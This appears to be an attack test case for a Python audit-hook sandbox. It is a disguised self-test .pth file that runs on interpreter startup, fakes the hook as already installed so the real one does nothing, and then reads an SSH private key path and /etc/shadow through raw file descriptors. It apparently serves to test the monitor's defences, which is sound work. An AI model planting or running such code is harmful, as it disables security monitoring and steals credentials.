# attack: pth_fakes_installed_hook
# class: 2
# category: hook_bypass
# kind: secret_read
# run: site
# path: 000-ouro-selftest.pth
# describe: a dependency's .pth file marks the hook as already installed (a fake module and flag), so the real install() is a no-op
import json
import os
import sys
import types

fake = types.ModuleType("_ouro_audit_hook")
fake.install = lambda *a, **k: False
fake.rebind_channel = lambda fd: True
sys.modules["_ouro_audit_hook"] = fake
sys._ouro_audit_installed = True
# the secrets read with raw file descriptors this time (os.open raises the same audit event as open)
try:
    with open("/workspace/target.json") as f:
        canary = json.load(f)["canary_path"]
except (OSError, ValueError, KeyError):
    canary = "/root/.ssh/id_rsa"
for path in (canary, "/etc/shadow"):
    try:
        fd = os.open(path, os.O_RDONLY)
        os.read(fd, 1 << 16)
        os.close(fd)
    except OSError:
        pass
